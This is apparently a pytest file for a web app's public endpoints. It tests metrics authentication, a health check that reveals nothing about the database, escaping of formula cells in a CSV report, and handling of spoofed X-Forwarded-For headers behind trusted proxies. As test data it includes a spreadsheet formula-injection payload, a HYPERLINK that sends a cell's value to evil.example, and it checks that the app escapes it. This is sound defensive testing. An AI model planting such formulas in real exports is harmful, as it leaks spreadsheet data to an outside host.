"""The public edge of the web app: metrics auth, a health check that tells nothing, the report
CSV opened safely in a spreadsheet, and the real client address behind trusted proxies."""

from __future__ import annotations

import base64
import csv
import io
import re

import pytest
from fastapi.testclient import TestClient

from config.settings import SettingsError
from models.session import make_engine, make_session_factory
from tests.conftest import Database
from tests.factories import purchase
from tests.reports.test_report_db import START, Case, seed
from web.app import create_app

OPERATOR = ("operator", "test-dashboard")
METRICS_TOKEN = "prometheus-scrape-token"


def basic(user: str, password: str) -> dict[str, str]:
    encoded = base64.b64encode(f"{user}:{password}".encode()).decode()
    return {"Authorization": f"Basic {encoded}"}


# -- /metrics -------------------------------------------------------------------------------------


@pytest.fixture
def metrics_client(sqlite_db: Database, runtime_for) -> TestClient:
    client = TestClient(create_app(runtime_for(sqlite_db, NPS_METRICS_TOKEN=METRICS_TOKEN)))
    client.post(
        "/v1/events",
        json=purchase("EDGE-1"),
        headers={"Authorization": "Bearer test-ingest-token"},
    )
    return client


def test_metrics_refuses_anonymous_scrapes_with_a_challenge(metrics_client):
    response = metrics_client.get("/metrics")
    assert response.status_code == 401
    challenge = response.headers["www-authenticate"]
    assert challenge.startswith('Basic realm="nps-dispatch"') and "Bearer" in challenge
    assert "nps_surveys" not in response.text


@pytest.mark.parametrize(
    "headers",
    [
        basic("operator", "wrong"),
        basic("operator", METRICS_TOKEN),  # the token is not a password
        {"Authorization": "Bearer wrong-token"},
        {"Authorization": "Bearer test-dashboard"},  # the password is not a token
        {"Authorization": "Bearer "},
        {"Authorization": "Basic not-base64!"},
        {"Authorization": f"Token {METRICS_TOKEN}"},
    ],
)
def test_metrics_refuses_wrong_credentials(metrics_client, headers):
    response = metrics_client.get("/metrics", headers=headers)
    assert response.status_code == 401
    assert "nps_surveys" not in response.text


def test_metrics_accepts_the_operator_password_or_the_token(metrics_client):
    for headers in (
        basic("prometheus", "test-dashboard"),
        {"Authorization": f"Bearer {METRICS_TOKEN}"},
    ):
        response = metrics_client.get("/metrics", headers=headers)
        assert response.status_code == 200
        assert "nps_surveys{" in response.text
        assert response.headers["cache-control"] == "no-store"


def test_metrics_without_a_token_takes_basic_only(sqlite_db: Database, runtime_for):
    client = TestClient(create_app(runtime_for(sqlite_db)))
    refused = client.get("/metrics", headers={"Authorization": "Bearer anything"})
    assert refused.status_code == 401
    assert refused.headers["www-authenticate"] == 'Basic realm="nps-dispatch"'
    assert client.get("/metrics", auth=OPERATOR).status_code == 200


def test_metrics_with_nothing_configured_is_closed(sqlite_db: Database, runtime_for):
    client = TestClient(create_app(runtime_for(sqlite_db, NPS_DASHBOARD_PASSWORD="")))
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", auth=("operator", "")).status_code == 401


# -- /healthz -------------------------------------------------------------------------------------


def test_healthz_ok_says_only_ok(sqlite_db: Database, runtime_for):
    response = TestClient(create_app(runtime_for(sqlite_db))).get("/healthz")
    assert response.status_code == 200
    assert response.json() == {"status": "ok"}


def test_healthz_failing_tells_nothing_about_the_database(runtime_for, caplog):
    url = "postgresql+psycopg://nps:hunter2-secret@127.0.0.1:1/nps_private"
    engine = make_engine(url)
    broken = Database(engine, make_session_factory(engine))
    client = TestClient(create_app(runtime_for(broken)))

    response = client.get("/healthz")

    assert response.status_code == 503
    body = response.json()
    assert body["status"] == "failing" and body["error"]["code"] == "unavailable"
    for secret in ("hunter2", "127.0.0.1", "nps_private", "psycopg", "Error", "connection"):
        assert secret not in response.text
    assert "OperationalError" in caplog.text  # the operators' log says what failed
    assert "hunter2" not in caplog.text
    engine.dispose()


# -- the report CSV -------------------------------------------------------------------------------


EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'


def test_report_csv_escapes_formula_cells_and_keeps_numbers(db: Database, runtime_for):
    client = TestClient(create_app(runtime_for(db)))
    seed(
        db,
        [
            Case("completed", START, score=score, category=category)
            for category in (EVIL, "@cmd", "books")
            for score in (0, 2, 9, 4)  # NPS -50
        ],
    )

    response = client.get(
        "/v1/reports/nps", params={"by": "category", "format": "csv"}, auth=OPERATOR
    )

    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert {r["segment"] for r in rows} == {"all", "'" + EVIL, "'@cmd", "books"}
    assert all(r["nps"] == "-50.0" for r in rows)  # a negative number is not escaped


# -- the client behind trusted proxies -------------------------------------------------------------


def requests_until_limited(client: TestClient, headers: dict[str, str], most: int = 80) -> int:
    """How many answer-page requests pass before the first 429 (``most`` if none)."""
    for n in range(most):
        if client.get("/s/not-a-token", headers=headers).status_code == 429:
            return n
    return most


def test_customers_behind_one_trusted_balancer_are_limited_separately(
    sqlite_db: Database, runtime_for
):
    app = create_app(runtime_for(sqlite_db, NPS_TRUSTED_PROXIES="10.0.0.0/8, 192.0.2.7"))
    balancer = TestClient(app, client=("10.1.2.3", 50000))
    ana = {"X-Forwarded-For": "198.51.100.20"}
    bob = {"X-Forwarded-For": "198.51.100.21, 192.0.2.7"}  # through a second trusted hop

    passed = requests_until_limited(balancer, ana)

    assert 30 <= passed < 80  # burst of 30, then limited
    assert balancer.get("/s/not-a-token", headers=ana).status_code == 429
    assert balancer.get("/s/not-a-token", headers=bob).status_code == 403  # not limited
    assert requests_until_limited(balancer, bob) >= 29


def test_forwarded_for_from_an_untrusted_peer_is_ignored(sqlite_db: Database, runtime_for):
    app = create_app(runtime_for(sqlite_db, NPS_TRUSTED_PROXIES="10.0.0.0/8"))
    attacker = TestClient(app, client=("203.0.113.66", 50000))
    passed = 0
    for n in range(80):  # a new forged address every time
        spoof = {"X-Forwarded-For": f"10.9.{n}.1, 198.51.100.{n}"}
        if attacker.get("/s/not-a-token", headers=spoof).status_code == 429:
            break
        passed += 1
    assert 30 <= passed < 80  # all counted against the attacker's own address


def test_a_client_spoofing_the_left_of_the_header_is_still_itself(sqlite_db: Database, runtime_for):
    app = create_app(runtime_for(sqlite_db, NPS_TRUSTED_PROXIES="10.0.0.0/8"))
    balancer = TestClient(app, client=("10.1.2.3", 50000))
    passed = 0
    for n in range(80):  # the balancer appends the real address; the client forges the left
        spoof = {"X-Forwarded-For": f"198.51.100.{n}, 203.0.113.66"}
        if balancer.get("/s/not-a-token", headers=spoof).status_code == 429:
            break
        passed += 1
    assert 30 <= passed < 80


def test_without_trusted_proxies_no_forwarded_header_is_believed(sqlite_db: Database, runtime_for):
    app = create_app(runtime_for(sqlite_db))
    balancer = TestClient(app, client=("10.1.2.3", 50000))
    passed = requests_until_limited(balancer, {"X-Forwarded-For": "198.51.100.20"})
    assert 30 <= passed < 80
    other = {"X-Forwarded-For": "198.51.100.21"}
    assert balancer.get("/s/not-a-token", headers=other).status_code == 429  # same peer


def test_a_bad_trusted_proxies_setting_refuses_to_start(sqlite_db: Database, runtime_for):
    with pytest.raises(
        SettingsError, match=re.escape("'10.0.0.0/33' is not an IP address or network")
    ):
        create_app(runtime_for(sqlite_db, NPS_TRUSTED_PROXIES="10.0.0.1, 10.0.0.0/33"))
